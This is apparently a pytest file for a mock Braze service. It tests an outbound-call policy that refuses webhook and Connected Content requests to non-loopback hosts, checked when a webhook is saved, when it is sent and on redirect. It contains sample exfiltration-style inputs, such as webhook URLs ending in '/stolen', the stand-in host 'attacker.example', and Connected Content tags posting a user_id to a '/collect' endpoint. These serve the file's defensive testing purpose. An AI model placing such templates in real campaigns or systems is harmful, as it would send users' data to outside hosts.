"""The fake Braze's outbound calls under the policy: webhook URLs checked when saved and again on connection,
Connected Content checked on connection, a refusal recorded as Braze records the failure, nothing sent
beyond loopback (docs/security.md, "Outbound calls"; docs/braze-fake.md, "Webhook delivery")."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask, redirect

from harness.runtime import Runtime
from mocks.braze.app import create_app

from .conftest import TEST_NET_1, TEST_NET_2, runtime_with_live_http

AUTH = {"Authorization": "Bearer local-braze-key"}


class Braze:
    """The fake Braze on a simulated clock with the live HTTP transport, driven through its APIs."""

    def __init__(self, runtime: Runtime, allow_outbound: str | None = None) -> None:
        self.runtime = runtime
        self.client = create_app(runtime, allow_outbound=allow_outbound).test_client()

    def user(self, external_id: str = "u1", **attributes: Any) -> None:
        response = self.client.post("/users/track", json={"attributes": [{"external_id": external_id, **attributes}]},
                                    headers=AUTH)
        assert response.status_code == 201, response.get_json()

    def save(self, kind: str, spec: dict[str, Any]):
        return self.client.post(f"/_admin/{kind}", json=spec)

    def campaign(self, url: str, body: str = "{{${user_id}}}") -> str:
        response = self.save("campaigns", {"name": "Campaign", "webhook": {"url": url, "method": "POST", "body": body}})
        assert response.status_code == 201, response.get_json()
        return response.get_json()["campaign_id"]

    def send(self, campaign_id: str, *external_ids: str) -> None:
        response = self.client.post("/campaigns/trigger/send", headers=AUTH, json={
            "campaign_id": campaign_id, "recipients": [{"external_user_id": e} for e in external_ids or ("u1",)]})
        assert response.status_code == 201, response.get_json()

    def activity(self) -> list[dict[str, Any]]:
        return self.client.get("/_admin/activity_log").get_json()["entries"]

    def currents(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.client.get("/_admin/currents").get_data(as_text=True).splitlines()]


@pytest.fixture
def braze() -> Iterator[Braze]:
    runtime = runtime_with_live_http()
    yield Braze(runtime)
    runtime.close()


def refused_message(response) -> str:
    assert response.status_code == 400, response.get_json()
    body = response.get_json()
    assert set(body) == {"message"}, body
    return body["message"]


# -- where a webhook URL is saved ----------------------------------------------------------------------------
@pytest.mark.parametrize("url", [f"http://{TEST_NET_1}/hook", f"https://{TEST_NET_2}:8443/{{{{${{user_id}}}}}}",
                                 "http://bridge.example/braze", "http://[2001:db8::7]/hook"])
def test_a_campaign_webhook_to_a_refused_host_is_a_400_when_it_is_saved(braze, network, url: str):
    message = refused_message(braze.save("campaigns", {"name": "C", "webhook": {"url": url, "body": "x"}}))
    assert "'webhook.url'" in message and "outbound policy" in message and "--allow-outbound" in message
    assert braze.client.get("/_admin/campaigns").get_json().get("campaigns", []) == []
    assert network.resolved == [] and network.external == []


def test_templates_and_canvas_steps_are_checked_when_saved(braze):
    template = {"name": "T", "url": f"http://{TEST_NET_1}/hook", "body": "x"}
    assert TEST_NET_1 in refused_message(braze.save("webhook_templates", template))
    placeholder = braze.save("webhook_templates", {**template, "url": "TARGET_URL"})  # filled in by each message
    assert placeholder.status_code == 201, placeholder.get_json()
    template_id = placeholder.get_json()["template_id"]
    replaced = {"template_id": template_id, "replace": {"TARGET_URL": f"http://{TEST_NET_2}/hook"}}
    assert TEST_NET_2 in refused_message(braze.save("campaigns", {"name": "C", "webhook": replaced}))
    step = {"id": "a", "type": "message", "webhook": {"url": f"http://{TEST_NET_1}/hook", "body": "x"}}
    message = refused_message(braze.save("canvases", {"name": "V", "steps": [step]}))
    assert "'steps[a].webhook.url'" in message


def test_loopback_and_liquid_hosts_are_accepted_when_saved(braze):
    for url in ("http://127.0.0.1:7300/braze", "http://localhost:7300/x", "http://[::1]:7300/",
                "http://{{custom_attribute.${hook_host}}}/hook", "{{custom_attribute.${hook_url}}}"):
        response = braze.save("campaigns", {"name": url, "webhook": {"url": url, "body": "x"}})
        assert response.status_code == 201, (url, response.get_json())


# -- when a webhook is sent ----------------------------------------------------------------------------------
def test_a_webhook_whose_liquid_host_renders_to_a_refused_address_fails_once_with_the_reason(braze, network):
    braze.user("u1", hook_host=TEST_NET_1)
    braze.send(braze.campaign("http://{{custom_attribute.${hook_host}}}/stolen"))
    braze.runtime.scheduler.run_until_idle()
    [entry] = braze.activity()  # one attempt: a refusal is never retried
    assert (entry["outcome"], entry["status"], entry["attempt"]) == ("failed", None, 1)
    assert TEST_NET_1 in entry["error"] and "--allow-outbound" in entry["error"]
    [failure] = [c for c in braze.currents() if c["event_type"] == "users.messages.webhook.Failure"]
    assert failure["webhook_failure_source"] == "Braze" and failure["is_terminal"] is True
    assert failure["error"] == entry["error"]
    assert network.external == []


def test_a_webhook_to_a_name_that_is_not_allowed_is_refused_without_a_dns_query(braze, network):
    network.resolve("attacker.example", TEST_NET_2)
    braze.user("u1", hook_host="attacker.example")
    braze.send(braze.campaign("http://{{custom_attribute.${hook_host}}}/stolen"))
    braze.runtime.scheduler.run_until_idle()
    [entry] = braze.activity()
    assert entry["outcome"] == "failed" and "'attacker.example'" in entry["error"]
    assert network.resolved == [] and network.external == []


def test_a_webhook_redirected_to_a_refused_host_is_not_followed(braze, network, serve):
    app = Flask("redirector")
    app.post("/hook")(lambda: redirect(f"http://{TEST_NET_1}/stolen", code=307))
    server = serve(app)
    braze.user("u1")
    braze.send(braze.campaign(f"{server.url()}/hook"))
    braze.runtime.scheduler.run_until_idle()
    [entry] = braze.activity()
    assert (entry["outcome"], entry["status"]) == ("failed", 307) and "not followed" in entry["error"]
    assert network.external == []


def test_an_allowed_network_lets_the_webhook_be_attempted(network):
    network.expect_external = True  # the test network refuses the connect itself: nothing leaves
    runtime = runtime_with_live_http()
    braze = Braze(runtime, allow_outbound="192.0.2.0/24")
    braze.user("u1")
    braze.send(braze.campaign(f"http://{TEST_NET_1}:7300/hook"))
    runtime.scheduler.run_until(runtime.clock.now())
    [entry] = braze.activity()
    assert (entry["outcome"], entry["status"]) == ("retry", 599)  # reached the connect: an unreachable host
    assert network.external == [(TEST_NET_1, 7300)]
    assert TEST_NET_2 in refused_message(braze.save("campaigns", {"name": "C", "webhook": {
        "url": f"http://{TEST_NET_2}/hook", "body": "x"}}))
    runtime.close()


# -- Connected Content ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("tag", [
    f"{{% connected_content http://{TEST_NET_1}/users/{{{{${{user_id}}}}}} :save profile %}}",
    f"{{% connected_content http://{TEST_NET_1}/collect :method post :body id={{{{${{user_id}}}}}} :retry %}}",
    "{% connected_content http://attacker.example/x :retry %}",
    "{% connected_content http://localhost:7100/x %}",
])
def test_connected_content_to_a_refused_host_aborts_the_message_without_a_call(braze, network, tag: str):
    network.resolve("attacker.example", TEST_NET_2)
    network.resolve("localhost", TEST_NET_1)  # localhost that resolves elsewhere is refused on the connection
    braze.user("u1")
    braze.send(braze.campaign("http://127.0.0.1:7300/hook", body=f"{tag}{{{{profile}}}}"))
    braze.runtime.scheduler.run_until_idle()
    [entry] = braze.activity()  # aborted: the webhook itself is never attempted
    assert entry["outcome"] == "aborted" and entry["attempt"] is None
    assert "connected_content" in entry["error"] and "not called" in entry["error"]
    assert "--allow-outbound" in entry["error"]
    assert "attacker.example" not in network.resolved and network.external == []


def test_a_campaign_of_many_users_sends_nothing_beyond_loopback(braze, network):
    """The report's case: a Connected Content body to a non-loopback host, sent to a whole audience."""
    for n in range(30):
        braze.user(f"u{n}")
    cid = braze.campaign("http://127.0.0.1:9/hook", body=f"{{% connected_content http://{TEST_NET_1}/x :retry %}}")
    braze.send(cid, *(f"u{n}" for n in range(30)))
    braze.runtime.scheduler.run_until_idle()
    assert [e["outcome"] for e in braze.activity()] == ["aborted"] * 30
    assert network.external == []
